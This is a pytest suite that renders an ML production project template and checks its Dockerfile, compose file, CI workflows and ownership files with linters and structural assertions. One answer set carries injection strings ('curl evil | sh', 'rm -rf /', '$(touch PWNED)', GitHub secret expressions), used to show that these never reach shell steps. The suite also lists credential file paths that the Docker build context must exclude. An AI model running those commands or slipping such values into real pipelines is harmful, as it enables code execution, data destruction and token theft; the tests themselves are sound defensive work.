"""The production template's delivery files: container, compose, CI/CD, ownership.

Renders the template with copier for a few answer sets and checks the rendered files with the
real linters (hadolint, actionlint, zizmor --offline, check-jsonschema's built-in schemas) plus
the structural facts DESIGN.md ("The generated project") promises.
"""

from __future__ import annotations

import json
import posixpath
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import tomllib
import yaml

ROOT = Path(__file__).resolve().parents[1]
TEMPLATE = ROOT / "templates" / "production"
BIN = Path(sys.executable).parent

SHA_PIN = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")

ANSWER_SETS: dict[str, dict[str, Any]] = {
    "github": {
        "project_name": "churn-model",
        "ci_provider": "github",
    },
    "gitlab": {
        "project_name": "churn-model",
        "ci_provider": "gitlab",
        "task": "regression",
        "target_column": "price",
        "data_path": "train.parquet",
    },
    "both_catalog": {
        "project_name": "fraud-detector",
        "ci_provider": "both",
        "catalog_info": True,
        "owner_email": "ml-team@corp.test",
        "owner_name": "ML Platform",
        "python_version": "3.12",
        "notebook_path": "notebooks/train.ipynb",
        "model_variable": "model",
        "model_class": "xgboost.XGBClassifier",
        "model_framework": "xgboost",
        "data_path": "data/transactions.csv",
        "target_column": "is_fraud",
        "primary_metric": "average_precision",
        "metric_floor": 0.42,
        "kubernetes": True,  # the release jobs that render and validate the manifests, linted on both providers
    },
    "unusual": {
        "project_name": "Análise & Churn",
        "package_name": "analise_churn",
        "description": 'Predicts "churn" for the café\'s clients; not ${{ secrets.X }}',
        "ci_provider": "both",
        "catalog_info": True,
        "owner_email": "josé.silva@empresa.test",
        "owner_name": "José Silva",
        "data_path": "raw data/clientes 2024.csv",
        "time_column": "data_ref",
        "kubernetes": True,
    },
    # hardening case 16: shell metacharacters and expressions in every free-text answer
    "hostile": {
        "project_name": "churn $(touch PWNED) `id` ${{ github.token }}",
        "package_name": "hostile_churn",
        "description": "'; curl evil | sh; echo '\" ${{ secrets.GITHUB_TOKEN }} $HOME && rm -rf / #",
        "ci_provider": "both",
        "catalog_info": True,
        "owner_email": "ops@corp.test",
        "owner_name": "Eve ${{ github.event.issue.title }} \"; exit 1",
        "data_path": "data/$(whoami).csv",
        "target_column": "target`id`",
        "kubernetes": True,
    },
}


def tool(name: str) -> str:
    """Path of a linter installed next to the running interpreter (the dev extra)."""
    for candidate in (BIN / name, BIN / f"{name}.exe"):
        if candidate.exists():
            return str(candidate)
    found = shutil.which(name)
    if not found:
        pytest.fail(f"{name} is not installed; install Shipyard with its dev extra: pip install -e '.[dev]'")
    return found


def run(args: list[str], cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, timeout=300, check=False)


def show(proc: subprocess.CompletedProcess[str]) -> str:
    return f"exit {proc.returncode}\n--- stdout ---\n{proc.stdout}\n--- stderr ---\n{proc.stderr}"


@pytest.fixture(scope="module")
def rendered(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    import copier

    out: dict[str, Path] = {}
    for name, data in ANSWER_SETS.items():
        dst = tmp_path_factory.mktemp(f"render-{name}")
        copier.run_copy(str(TEMPLATE), dst, data=data, defaults=True, unsafe=False, quiet=True)
        out[name] = dst
    return out


def answers(name: str) -> dict[str, Any]:
    """The answer set with copier.yml's defaults for what it leaves out."""
    spec = yaml.safe_load((TEMPLATE / "copier.yml").read_text(encoding="utf-8"))
    data = dict(ANSWER_SETS[name])
    data.setdefault("python_version", spec["python_version"]["default"])
    data.setdefault("owner_email", spec["owner_email"]["default"])
    data.setdefault("data_path", spec["data_path"]["default"])
    data.setdefault("package_name", data["project_name"].lower().replace("-", "_").replace(" ", "_"))
    return data


def github_sets() -> list[str]:
    return [n for n, a in ANSWER_SETS.items() if a.get("ci_provider", "github") in ("github", "both")]


def gitlab_sets() -> list[str]:
    return [n for n, a in ANSWER_SETS.items() if a.get("ci_provider") in ("gitlab", "both")]


def workflows(root: Path) -> list[Path]:
    return sorted((root / ".github" / "workflows").glob("*.yml"))


def load_yaml(path: Path) -> Any:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


# --------------------------------------------------------------------------- which files exist


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_delivery_files_are_rendered(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    provider = ANSWER_SETS[name].get("ci_provider", "github")
    for rel in (
        "Dockerfile",
        ".dockerignore",
        "docker-compose.yml",
        ".env.example",
        ".gitignore",
        ".pre-commit-config.yaml",
        "OWNERSHIP.yaml",
        "CODEOWNERS",
        "MODEL_CARD.md",
    ):
        assert (root / rel).is_file(), rel
    github_files = [
        ".github/workflows/ci.yml",
        ".github/workflows/train.yml",
        ".github/workflows/monitor.yml",
        ".github/workflows/release.yml",
        ".github/dependabot.yml",
    ]
    for rel in github_files:
        assert (root / rel).is_file() == (provider in ("github", "both")), rel
    if provider == "gitlab":
        assert not (root / ".github").exists(), "a GitLab-only project gets no .github directory"
    assert (root / ".gitlab-ci.yml").is_file() == (provider in ("gitlab", "both"))
    assert (root / "catalog-info.yaml").is_file() == bool(ANSWER_SETS[name].get("catalog_info"))
    kubernetes = bool(ANSWER_SETS[name].get("kubernetes"))
    assert (root / "deploy/kubernetes/overlays/prod/kustomization.yaml").is_file() == kubernetes
    if provider in ("github", "both"):
        jobs = load_yaml(root / ".github/workflows/release.yml")["jobs"]
        assert ("manifests" in jobs) == kubernetes
    if provider in ("gitlab", "both"):
        assert ("kubernetes-validate" in load_yaml(root / ".gitlab-ci.yml")) == kubernetes
    leftovers = [p for p in root.rglob("*") if p.name.endswith(".jinja") or "{%" in p.name]
    assert not leftovers, leftovers


# --------------------------------------------------------------------------- real linters


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_hadolint_is_clean(rendered: dict[str, Path], name: str) -> None:
    proc = run([tool("hadolint"), "--no-color", "Dockerfile"], rendered[name])
    assert proc.returncode == 0 and not proc.stdout.strip(), show(proc)


def test_case_17_the_base_image_pinned_by_digest_is_clean_under_hadolint(rendered: dict[str, Path],
                                                                        tmp_path: Path) -> None:
    text = (rendered["github"] / "Dockerfile").read_text(encoding="utf-8")
    froms = re.findall(r"(?m)^FROM (\S+)", text)
    assert froms and all(f == "${BASE_IMAGE}" for f in froms), "every stage is built on the overridable base"
    default = re.search(r"(?m)^ARG BASE_IMAGE=(\S+)$", text).group(1)
    pinned = text.replace(f"ARG BASE_IMAGE={default}", f"ARG BASE_IMAGE={default}@sha256:{'ab' * 32}")
    (tmp_path / "Dockerfile").write_text(pinned, encoding="utf-8")
    proc = run([tool("hadolint"), "--no-color", "Dockerfile"], tmp_path)
    assert proc.returncode == 0 and not proc.stdout.strip(), show(proc)
    assert re.search(r"(?m)^USER (?!root|0)\S+", text) and re.search(r"(?m)^HEALTHCHECK ", text)


@pytest.mark.parametrize("name", github_sets())
def test_actionlint_is_clean(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    files = [str(p.relative_to(root)) for p in workflows(root)]
    assert len(files) == 4
    proc = run([tool("actionlint"), "-no-color", *files], root)
    assert proc.returncode == 0 and not proc.stdout.strip(), show(proc)


@pytest.mark.parametrize("persona", ["regular", "auditor"])
@pytest.mark.parametrize("name", github_sets())
def test_zizmor_offline_is_clean(rendered: dict[str, Path], name: str, persona: str) -> None:
    proc = run([tool("zizmor"), "--offline", f"--persona={persona}", "--format=plain", "."], rendered[name])
    assert proc.returncode == 0, show(proc)
    assert "No findings to report" in proc.stdout, show(proc)
    assert "suppressed" not in proc.stdout or persona == "regular", show(proc)


@pytest.mark.parametrize("name", github_sets())
def test_workflows_and_dependabot_match_their_schemas(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    files = [str(p) for p in workflows(root)]
    for schema, targets in (
        ("vendor.github-workflows", files),
        ("custom.github-workflows-require-timeout", files),
        ("vendor.dependabot", [str(root / ".github" / "dependabot.yml")]),
    ):
        proc = run([tool("check-jsonschema"), "--builtin-schema", schema, *targets], root)
        assert proc.returncode == 0, f"{schema}: {show(proc)}"


@pytest.mark.parametrize("name", gitlab_sets())
def test_gitlab_ci_matches_its_schema(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    proc = run(
        [
            tool("check-jsonschema"),
            "--builtin-schema",
            "vendor.gitlab-ci",
            "--data-transform",
            "gitlab-ci",
            ".gitlab-ci.yml",
        ],
        root,
    )
    assert proc.returncode == 0, show(proc)


@pytest.mark.parametrize("name", gitlab_sets())
def test_gitlab_ci_gates_on_readiness_and_keeps_the_report(rendered: dict[str, Path], name: str) -> None:
    job = load_yaml(rendered[name] / ".gitlab-ci.yml")["readiness"]
    assert job["stage"] == "test" and job["variables"]["SHIPYARD_REQUIREMENT"].startswith("shipyard==")
    assert any(line.startswith("shipyard doctor . ") for line in job["script"])
    assert job["artifacts"]["when"] == "always" and job["artifacts"]["paths"] == ["shipyard-doctor.md"]


def test_case_16_answers_with_shell_metacharacters_reach_scripts_only_through_env(rendered: dict[str, Path]) -> None:
    a = answers("hostile")
    hostile = [a["project_name"], a["description"], a["owner_name"], a["data_path"], a["target_column"],
               "$(touch PWNED)", "${{ github.token }}", "${{ secrets.GITHUB_TOKEN }}", "`id`"]
    root = rendered["hostile"]
    flows = workflows(root)
    assert flows
    for wf in flows:
        for job in load_yaml(wf)["jobs"].values():
            for step in job.get("steps", []):
                script = step.get("run", "")
                assert not [h for h in hostile if h in script], (wf.name, step.get("name"), script)
    gitlab = load_yaml(root / ".gitlab-ci.yml")
    for name, job in gitlab.items():
        if isinstance(job, dict) and "script" in job:
            text = "\n".join(job["script"])
            assert not [h for h in hostile if h in text], (name, text)


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_compose_matches_the_compose_spec(rendered: dict[str, Path], name: str) -> None:
    proc = run(
        [tool("check-jsonschema"), "--builtin-schema", "vendor.compose-spec", "docker-compose.yml"],
        rendered[name],
    )
    assert proc.returncode == 0, show(proc)


# --------------------------------------------------------------------------- GitHub Actions


@pytest.mark.parametrize("name", github_sets())
def test_actions_are_pinned_by_commit_sha_with_the_version_as_comment(
    rendered: dict[str, Path], name: str
) -> None:
    for wf in workflows(rendered[name]):
        text = wf.read_text(encoding="utf-8")
        lines = [ln for ln in text.splitlines() if re.match(r"\s*(- )?uses:", ln)]
        assert lines, wf.name
        for line in lines:
            ref, _, comment = line.split("uses:", 1)[1].partition("#")
            assert SHA_PIN.match(ref.strip()), f"{wf.name}: {line.strip()}"
            assert re.match(r"\s*v\d+(\.\d+)*\s*$", comment), f"{wf.name}: version comment missing: {line}"
        for job in load_yaml(wf)["jobs"].values():
            for step in job.get("steps", []):
                if "uses" in step:
                    assert SHA_PIN.match(step["uses"]), f"{wf.name}: {step['uses']}"


@pytest.mark.parametrize("name", github_sets())
def test_workflows_follow_least_privilege(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    by_name = {}
    for wf in workflows(root):
        text = wf.read_text(encoding="utf-8")
        doc = load_yaml(wf)
        by_name[wf.stem] = doc
        triggers = doc[True] if True in doc else doc["on"]  # PyYAML reads the key `on` as True
        assert "pull_request_target" not in triggers and "pull_request_target" not in text, wf.name
        assert doc["permissions"] == {} or doc["permissions"] == {"contents": "read"}, wf.name
        assert doc["env"]["MLFLOW_DISABLE_TELEMETRY"] == "true", wf.name
        assert "group" in doc["concurrency"], wf.name
        for job_id, job in doc["jobs"].items():
            assert "permissions" in job, f"{wf.name}: job {job_id} has no permissions"
            assert isinstance(job.get("timeout-minutes"), int), f"{wf.name}: job {job_id} has no timeout"
            if "packages" in job["permissions"]:
                assert (wf.stem, job["permissions"]["packages"]) == ("release", "write"), wf.name
            for step in job["steps"]:
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, f"{wf.name}: {job_id}"
                run_block = step.get("run", "")
                # Untrusted values reach shell scripts only through env:.
                assert "${{" not in run_block, f"{wf.name}: expression in run: {run_block}"
    assert set(by_name) == {"ci", "train", "monitor", "release"}

    ci_on = by_name["ci"][True]
    assert "push" in ci_on and "pull_request" in ci_on
    ci_text = (root / ".github/workflows/ci.yml").read_text(encoding="utf-8")
    for needle in ("ruff check", "pytest", "check-data", "check-ownership"):
        assert needle in ci_text, needle

    train = by_name["train"]
    assert {"workflow_dispatch", "schedule"} <= set(train[True])
    train_job = next(iter(train["jobs"].values()))
    assert train_job["env"]["MLFLOW_TRACKING_URI"] == "${{ secrets.MLFLOW_TRACKING_URI }}"
    train_runs = " ".join(s.get("run", "") for s in train_job["steps"])
    assert " train" in train_runs and " promote" in train_runs

    monitor = by_name["monitor"]
    assert "schedule" in monitor[True]
    monitor_job = next(iter(monitor["jobs"].values()))
    assert any(" drift " in s.get("run", "") for s in monitor_job["steps"])
    assert any(s.get("uses", "").startswith("actions/upload-artifact@") for s in monitor_job["steps"])

    release = by_name["release"]
    assert release[True]["push"]["tags"], "release runs on tag pushes"
    assert "packages" not in (release["permissions"] or {}), "packages: write belongs to the job only"
    uses = [s.get("uses", "") for j in release["jobs"].values() for s in j["steps"]]
    assert any(u.startswith("docker/build-push-action@") for u in uses)
    release_text = (root / ".github/workflows/release.yml").read_text(encoding="utf-8")
    assert "registry: ghcr.io" in release_text
    assert "cache: pip" not in release_text and "cache-from" not in release_text, "no caches in release"


@pytest.mark.parametrize("name", github_sets())
def test_ci_gates_on_readiness_and_uploads_sarif(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    root = rendered[name]
    ci = load_yaml(root / ".github/workflows/ci.yml")
    job = ci["jobs"]["readiness"]
    assert job["permissions"] == {"contents": "read", "security-events": "write"}
    assert all("security-events" not in (j.get("permissions") or {}) for k, j in ci["jobs"].items() if k != "readiness")
    runs = [s.get("run", "") for s in job["steps"]]
    assert any("shipyard doctor . --format sarif --output shipyard-doctor.sarif" in r for r in runs)
    install = next(s for s in job["steps"] if "SHIPYARD_REQUIREMENT" in s.get("env", {}))
    assert install["env"]["SHIPYARD_REQUIREMENT"] == f"shipyard=={a.get('shipyard_version', '0.1.0')}"
    upload = next(s for s in job["steps"] if s.get("uses", "").startswith("github/codeql-action/upload-sarif@"))
    assert re.fullmatch(r"github/codeql-action/upload-sarif@[0-9a-f]{40}", upload["uses"])
    assert upload["with"]["sarif_file"] == "shipyard-doctor.sarif"
    # the floor CI applies is the project's own, from pyproject.toml
    floor = tomllib.loads((root / "pyproject.toml").read_text())["tool"]["shipyard"]["doctor"]["fail-under"]
    assert floor == float(a.get("readiness_floor", 2.0))


@pytest.mark.parametrize("name", github_sets())
def test_workflows_carry_the_answers(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    root = rendered[name]
    for wf in workflows(root):
        doc = load_yaml(wf)
        for job in doc["jobs"].values():
            for step in job["steps"]:
                if step.get("uses", "").startswith("actions/setup-python@"):
                    assert step["with"]["python-version"] == a["python_version"]
    ci = load_yaml(root / ".github/workflows/ci.yml")
    data_envs = [s["env"]["DATA_PATH"] for j in ci["jobs"].values() for s in j["steps"]
                 if "DATA_PATH" in s.get("env", {})]
    assert data_envs and set(data_envs) == {a["data_path"]}
    text = (root / ".github/workflows/ci.yml").read_text()
    assert f"python -m {a['package_name']} check-data" in text
    assert "make contract-test" in text  # datacontract-cli, the reference client of ODCS, on the same data


@pytest.mark.parametrize("name", github_sets())
def test_dependabot_covers_pip_actions_and_docker(rendered: dict[str, Path], name: str) -> None:
    doc = load_yaml(rendered[name] / ".github" / "dependabot.yml")
    assert doc["version"] == 2
    ecosystems = {u["package-ecosystem"] for u in doc["updates"]}
    assert {"pip", "github-actions", "docker"} <= ecosystems


# --------------------------------------------------------------------------- GitLab CI


@pytest.mark.parametrize("name", gitlab_sets())
def test_gitlab_ci_stages_rules_and_no_secrets(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    text = (root / ".gitlab-ci.yml").read_text(encoding="utf-8")
    doc = yaml.safe_load(text)
    assert doc["stages"] == ["test", "train", "monitor", "release"]
    jobs = {k: v for k, v in doc.items() if isinstance(v, dict) and "script" in v}
    assert {job["stage"] for job in jobs.values()} == {"test", "train", "monitor", "release"}
    for job_id, job in jobs.items():
        assert job.get("rules"), f"job {job_id} has no rules"
    assert "MLFLOW_TRACKING_URI" not in doc.get("variables", {}), "secrets belong in CI/CD variables"
    assert not re.search(r"(?im)^\s*\w*(password|token|secret)\w*\s*:\s*\S", text), "no secrets in the file"
    assert answers(name)["data_path"] == doc["variables"]["DATA_PATH"]


# --------------------------------------------------------------------------- container


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_dockerfile_structure(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    text = (rendered[name] / "Dockerfile").read_text(encoding="utf-8")
    instructions = [ln.strip() for ln in text.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
    assert instructions[0] == f"ARG BASE_IMAGE=python:{a['python_version']}-slim"
    froms = [ln for ln in instructions if ln.startswith("FROM ")]
    assert len(froms) >= 2 and all(ln.startswith("FROM ${BASE_IMAGE}") for ln in froms), froms
    assert "COPY --from=builder /opt/venv /opt/venv" in instructions
    pip_installs = re.findall(r"pip (?:install|wheel)[^\n&\\]*", text)
    assert pip_installs and all("--no-cache-dir" in p for p in pip_installs), pip_installs
    users = [ln.split(None, 1)[1] for ln in instructions if ln.startswith("USER ")]
    assert users and users[-1].split(":")[0] not in ("root", "0"), users
    health = next(ln for ln in text.splitlines() if "CMD [" in ln and "urllib" in ln)
    assert "http://127.0.0.1:8000/health" in health and "curl" not in text.split("HEALTHCHECK", 1)[1]
    assert any(ln.startswith("HEALTHCHECK ") for ln in instructions)
    assert "EXPOSE 8000" in instructions
    cmd = next(ln for ln in reversed(instructions) if ln.startswith("CMD "))
    assert json.loads(cmd[4:]) == [
        "python", "-m", a["package_name"], "serve", "--host", "0.0.0.0", "--port", "8000",
    ]  # fmt: skip
    assert "COPY contracts/ contracts/" in instructions
    assert any(ln.startswith("COPY OWNERSHIP.yaml") for ln in instructions)
    assert "digest" in text and "air-gapped" in text


def _dockerignore(text: str):
    """A matcher with Docker's .dockerignore rules: patterns cleaned and relative to the context root, `*` and
    `?` within one path segment, `**` any number of segments, `!` re-includes, the last match wins, and a
    path is excluded when it or one of its parent folders matches."""
    rules = []
    for raw in text.splitlines():
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        negate = line.startswith("!")
        pattern = posixpath.normpath(line.lstrip("!").strip().lstrip("/"))
        parts = []
        for segment in pattern.split("/"):
            if segment == "**":
                parts.append("(?:[^/]+/)*")
                continue
            rx = "".join("[^/]*" if c == "*" else "[^/]" if c == "?" else re.escape(c) for c in segment)
            parts.append(rx + "/")
        rules.append((negate, re.compile("^" + "".join(parts).rstrip("/") + "$")))

    def excluded(path: str) -> bool:
        pieces = path.split("/")
        prefixes = ["/".join(pieces[:i]) for i in range(1, len(pieces) + 1)]
        state = False
        for negate, rx in rules:
            if any(rx.match(p) for p in prefixes):
                state = not negate
        return state

    return excluded


def test_the_dockerignore_matcher_of_this_test_behaves_like_docker() -> None:
    excluded = _dockerignore("data/\n*.csv\n**/.env\n!.env.example\n**/secret/\n")
    assert excluded("data/x/y.parquet") and excluded("top.csv") and not excluded("src/nested.csv")
    assert excluded(".env") and excluded("src/pkg/.env") and not excluded(".env.example")
    assert excluded("a/b/secret/key") and not excluded("src/app.py")


NESTED_SECRETS = ["src/pkg/.env", "src/pkg/.env.production", "src/pkg/config/credentials.json", "src/pkg/key.pem",
                  "src/pkg/sub/mlflow.db", "src/pkg/mlruns/0/meta.yaml", ".aws/credentials", "src/pkg/.aws/config",
                  "config/service-account-prod.json", "src/pkg/id_rsa", "deploy/.netrc", "src/pkg/tls.key",
                  "data/train.csv", "src/pkg/data/extra.csv", "src/pkg/model.pkl", "notebooks/a.ipynb",
                  "src/pkg/scratch.ipynb", "logs/predictions.jsonl", "src/pkg/logs/predictions.jsonl", "mlflow.db"]
NEEDED = ["src/pkg/__init__.py", "src/pkg/service.py", "pyproject.toml", "README.md", "OWNERSHIP.yaml",
          "contracts/customers.odcs.yaml"]


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_case_15_secrets_state_and_data_never_reach_the_build_context(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    excluded = _dockerignore((rendered[name] / ".dockerignore").read_text(encoding="utf-8"))
    leaked = [p for p in [*NESTED_SECRETS, a["data_path"]] if not excluded(p)]
    assert not leaked, f"these reach the Docker build context: {leaked}"
    needed = [p for p in NEEDED if excluded(p)]
    assert not needed, f"the Dockerfile copies these: {needed}"
    dockerfile = (rendered[name] / "Dockerfile").read_text(encoding="utf-8")
    for source in re.findall(r"(?m)^COPY (?!--from)(.+) \S+$", dockerfile):
        for item in source.split():
            assert not excluded(item.rstrip("/")), f"COPY {item} is excluded from the context"
    names = re.findall(r"(?m)^(?:ARG|ENV)\s+([A-Za-z_][A-Za-z0-9_]*)", dockerfile)
    assert names and not [n for n in names if re.search(r"SECRET|TOKEN|PASSWORD|PASSWD|KEY|CREDENTIAL", n, re.I)]


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_gitignore_keeps_local_state_out(rendered: dict[str, Path], name: str) -> None:
    patterns = set((rendered[name] / ".gitignore").read_text(encoding="utf-8").splitlines())
    required = {"mlflow.db", "mlruns/", "mlartifacts/", "logs/", ".env", ".venv/", "__pycache__/"}
    assert required <= patterns, required - patterns
    assert "!.env.example" in patterns


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_compose_runs_service_tracking_server_and_postgres(rendered: dict[str, Path], name: str) -> None:
    root = rendered[name]
    text = (root / "docker-compose.yml").read_text(encoding="utf-8")
    doc = yaml.safe_load(text)
    services = doc["services"]
    assert {"app", "mlflow", "postgres"} <= set(services)
    mlflow = services["mlflow"]
    assert re.fullmatch(r"ghcr\.io/mlflow/mlflow:v\d+\.\d+\.\d+(-full)?", mlflow["image"])
    assert mlflow["command"][:2] == ["mlflow", "server"]
    assert "--serve-artifacts" in mlflow["command"] and "--artifacts-destination" in mlflow["command"]
    assert mlflow["environment"]["MLFLOW_BACKEND_STORE_URI"].startswith("postgresql")
    assert any(v.endswith(":/mlartifacts") for v in mlflow["volumes"])
    postgres = services["postgres"]
    assert postgres["image"] == "postgres:16"
    assert "healthcheck" in postgres and postgres["volumes"]
    assert "mlflow:5000" in services["app"]["environment"]["MLFLOW_TRACKING_URI"]
    assert services["app"]["depends_on"]["mlflow"]["condition"] == "service_healthy"
    # Credentials come from .env; .env.example names every variable compose reads.
    env_example = (root / ".env.example").read_text(encoding="utf-8")
    example_vars = set(re.findall(r"(?m)^([A-Z_][A-Z0-9_]*)=", env_example))
    compose_vars = set(re.findall(r"\$\{([A-Z_][A-Z0-9_]*)", text))
    assert compose_vars <= example_vars, compose_vars - example_vars
    assert "POSTGRES_PASSWORD" in example_vars
    assert "${POSTGRES_PASSWORD" in postgres["environment"]["POSTGRES_PASSWORD"]


# --------------------------------------------------------------------------- ownership


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_ownership_yaml_has_the_promised_fields(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    own = load_yaml(rendered[name] / "OWNERSHIP.yaml")
    assert own["lifecycle"] == "experimental"
    model = own["model"]
    assert model["name"] == a["package_name"]
    assert model["primary_metric"] == a.get(
        "primary_metric", "roc_auc" if a.get("task", "classification") == "classification" else "r2"
    )
    assert float(model["metric_floor"]) == float(
        a.get("metric_floor", 0.6 if a.get("task", "classification") == "classification" else 0.0)
    )
    owners = own["owners"]
    assert set(owners["business"]) >= {"name", "email"}
    assert owners["technical"]["email"] == a["owner_email"]
    assert owners["data"] and {"name", "email", "dataset"} <= set(owners["data"][0])
    assert owners["business"]["name"].startswith("TODO:")
    assert own["on_call"]
    levels = own["escalation"]
    assert len(levels) >= 2 and all({"contact", "response_time"} <= set(lv) for lv in levels)
    assert [m["day"] for m in own["success_metrics"]["milestones"]] == [30, 60, 90]
    assert own["fallback"]
    assert own["rollback"]["command"] == f"python -m {a['package_name']} rollback"
    assert own["retraining"]["cadence"]
    assert any("psi >= 0.25" in t for t in own["retraining"]["triggers"])
    assert str(own["review_date"]).startswith("TODO:")
    assert own["model"]["project"] == a["project_name"]


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_codeowners_lists_the_technical_owner(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    rules = [
        ln.split()
        for ln in (rendered[name] / "CODEOWNERS").read_text(encoding="utf-8").splitlines()
        if ln.strip() and not ln.startswith("#")
    ]
    assert ["*", a["owner_email"]] in rules
    assert ["/contracts/", a["owner_email"]] in rules


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_model_card_has_the_sections_and_the_answers(rendered: dict[str, Path], name: str) -> None:
    a = answers(name)
    card = (rendered[name] / "MODEL_CARD.md").read_text(encoding="utf-8")
    for section in (
        "Model details", "Intended use", "Out-of-scope use", "Training data", "Evaluation data",
        "Metrics", "Ethical considerations", "Caveats and recommendations", "Quantitative analyses",
    ):  # fmt: skip
        assert f"## {section}" in card, section
    assert "TODO(human)" in card
    assert a["data_path"] in card and a["package_name"] in card
    if a.get("model_class"):
        assert a["model_class"] in card
    if a.get("notebook_path"):
        assert a["notebook_path"] in card
    if a.get("time_column"):
        assert a["time_column"] in card


@pytest.mark.parametrize("name", [n for n, a in ANSWER_SETS.items() if a.get("catalog_info")])
def test_catalog_info_is_a_backstage_component(rendered: dict[str, Path], name: str) -> None:
    doc = load_yaml(rendered[name] / "catalog-info.yaml")
    assert doc["apiVersion"] == "backstage.io/v1alpha1" and doc["kind"] == "Component"
    assert re.fullmatch(r"[A-Za-z0-9]+([-_.][A-Za-z0-9]+)*", doc["metadata"]["name"])
    assert len(doc["metadata"]["name"]) <= 63
    assert doc["metadata"]["title"] == answers(name)["project_name"]
    spec = doc["spec"]
    assert spec["type"] == "service" and spec["lifecycle"] == "experimental" and spec["owner"]


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_pre_commit_revs_are_pinned_tags(rendered: dict[str, Path], name: str) -> None:
    doc = load_yaml(rendered[name] / ".pre-commit-config.yaml")
    hook_ids = set()
    for repo in doc["repos"]:
        assert re.fullmatch(r"v\d+\.\d+\.\d+", repo["rev"]), repo
        hook_ids |= {h["id"] for h in repo["hooks"]}
    assert {"ruff", "check-yaml", "end-of-file-fixer"} <= hook_ids
    github = ANSWER_SETS[name].get("ci_provider", "github") in ("github", "both")
    assert ("actionlint" in hook_ids) == github


def test_unusual_answers_round_trip_through_every_yaml_file(rendered: dict[str, Path]) -> None:
    a = answers("unusual")
    root = rendered["unusual"]
    for path in [*root.rglob("*.yml"), *root.rglob("*.yaml")]:
        load_yaml(path)  # parses
    own = load_yaml(root / "OWNERSHIP.yaml")
    assert own["model"]["description"] == a["description"]
    assert own["owners"]["technical"]["name"] == a["owner_name"]
    assert own["owners"]["data"][0]["source"] == a["data_path"]
    release = (root / ".github/workflows/release.yml").read_text(encoding="utf-8")
    assert "${{ secrets.X }}" not in release, "answers must not become workflow expressions"


DELIVERY_FILES = (
    "Dockerfile", ".dockerignore", "docker-compose.yml", ".env.example", ".gitignore",
    ".pre-commit-config.yaml", "OWNERSHIP.yaml", "CODEOWNERS", "MODEL_CARD.md", "catalog-info.yaml",
    ".github/workflows/ci.yml", ".github/workflows/train.yml", ".github/workflows/monitor.yml",
    ".github/workflows/release.yml", ".github/dependabot.yml", ".gitlab-ci.yml",
    *(f"deploy/kubernetes/{rel}.yaml" for rel in (
        "base/kustomization", "base/serviceaccount", "base/deployment", "base/service", "base/hpa", "base/pdb",
        "base/networkpolicy", "overlays/dev/kustomization", "overlays/dev/namespace", "overlays/prod/kustomization",
        "overlays/prod/namespace")),
)  # fmt: skip


@pytest.mark.parametrize("name", list(ANSWER_SETS))
def test_delivery_files_pass_pre_commit_hygiene(rendered: dict[str, Path], name: str) -> None:
    """end-of-file-fixer and trailing-whitespace must not change a freshly generated project."""
    for rel in DELIVERY_FILES:
        path = rendered[name] / rel
        if not path.exists():
            continue
        text = path.read_text(encoding="utf-8")
        assert text.endswith("\n") and not text.endswith("\n\n"), f"{rel}: end of file"
        assert all(line == line.rstrip() for line in text.splitlines()), f"{rel}: trailing whitespace"
